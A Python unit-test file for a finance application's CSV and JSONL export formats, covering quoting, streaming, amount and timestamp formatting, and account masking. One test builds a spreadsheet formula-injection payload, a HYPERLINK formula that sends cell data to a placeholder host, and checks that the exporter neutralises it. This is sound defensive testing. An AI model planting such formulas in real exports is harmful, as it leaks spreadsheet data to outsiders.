"""Unit tests of the export formats and value formatting (no database)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.db import from_micros, from_minor
from plugins.export import COLUMNS, CsvFormat, ExportFormat, JsonlFormat, neutralise_formula
from plugins.export.formats import FLUSH_EVERY
from plugins.export.rows import format_cents, format_micros, mask_account


def _csv(rows: list[tuple]) -> list[list[str]]:
    out = io.BytesIO()
    CsvFormat().write(list(COLUMNS), iter(rows), out)
    return list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))


def _row(counterparty: object = "ACME", description: object = "coffee") -> tuple:
    return (
        7,
        "2024-01-01T00:00:00.000000+00:00",
        "****1234",
        "payment",
        "completed",
        "12.34",
        "USD",
        counterparty,
        description,
    )


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_export_csv_neutralises_each_formula_trigger(trigger: str) -> None:
    evil = f'{trigger}HYPERLINK("http://x.example/?q="&A1, "click")'
    header, row = _csv([_row(counterparty=evil, description=evil)])
    assert header == COLUMNS
    assert row[7] == "'" + evil
    assert row[8] == "'" + evil


@pytest.mark.parametrize(
    "text",
    [
        'He said "hi", then left',
        "two\nlines, and a comma",
        "crlf\r\ninside",
        '=1+2,"quoted"\nnext',
        "ünïcødé — €",
        "a=b starts safely",
        " =space first is not a trigger",
    ],
)
def test_export_csv_round_trips_through_csv_reader(text: str) -> None:
    (_, row) = _csv([_row(counterparty=text, description="x")])
    assert row[7] == neutralise_formula(text)
    if text[0] not in "=+-@\t\r":
        assert row[7] == text


def test_export_csv_numbers_and_empty_cells() -> None:
    (_, row) = _csv([_row(counterparty=None, description=None)])
    assert row[0] == "7"
    assert row[5] == "12.34"
    assert row[7:] == ["", ""]


def test_export_csv_neutralises_negative_amount_text_too() -> None:
    # Documented choice: every text cell is checked, so "-5.00" would read as text.
    assert neutralise_formula("-5.00") == "'-5.00"
    assert neutralise_formula("5.00") == "5.00"
    assert neutralise_formula("") == ""


def test_export_jsonl_one_object_per_line() -> None:
    out = io.BytesIO()
    rows = [_row(), _row(counterparty=None, description='quote " and\nnewline')]
    JsonlFormat().write(list(COLUMNS), iter(rows), out)
    lines = out.getvalue().decode("utf-8").split("\n")
    assert lines[-1] == ""
    objects = [json.loads(line) for line in lines[:-1]]
    assert [list(o) for o in objects] == [COLUMNS, COLUMNS]
    assert objects[1]["counterparty"] is None
    assert objects[1]["description"] == 'quote " and\nnewline'
    assert objects[0]["amount"] == "12.34" and objects[0]["transaction_id"] == 7


@pytest.mark.parametrize("fmt", [CsvFormat(), JsonlFormat()], ids=["csv", "jsonl"])
def test_export_formats_stream_without_collecting_rows(fmt: ExportFormat) -> None:
    out = io.BytesIO()
    seen_output_while_reading: list[int] = []

    def rows() -> Iterator[tuple]:
        for i in range(3 * FLUSH_EVERY):
            if i == 2 * FLUSH_EVERY:
                # Two thousand rows in, the first ones must already be in the file.
                seen_output_while_reading.append(len(out.getvalue()))
            yield _row(description=f"row {i}")

    fmt.write(list(COLUMNS), rows(), out)
    assert isinstance(fmt, ExportFormat)
    assert seen_output_while_reading and seen_output_while_reading[0] > 0
    assert out.getvalue().count(b"\n") == 3 * FLUSH_EVERY + (1 if fmt.name == "csv" else 0)


@pytest.mark.parametrize(
    ("cents", "text"),
    [(0, "0.00"), (5, "0.05"), (100, "1.00"), (1_000_001, "10000.01"), (-5, "-0.05")],
)
def test_export_amount_strings_are_exact(cents: int, text: str) -> None:
    assert format_cents(cents) == text


@given(st.integers(min_value=-(10**15), max_value=10**15))
def test_export_amount_strings_match_decimal(cents: int) -> None:
    assert format_cents(cents) == str(from_minor(cents))


@given(st.integers(min_value=0, max_value=4_000_000_000_000_000))
def test_export_times_are_iso_utc(micros: int) -> None:
    text = format_micros(micros)
    assert text.endswith("+00:00")
    assert datetime.fromisoformat(text) == from_micros(micros)


def test_export_account_mask_keeps_last_four() -> None:
    assert mask_account("401234567890") == "****7890"
    assert mask_account("12") == "****12"
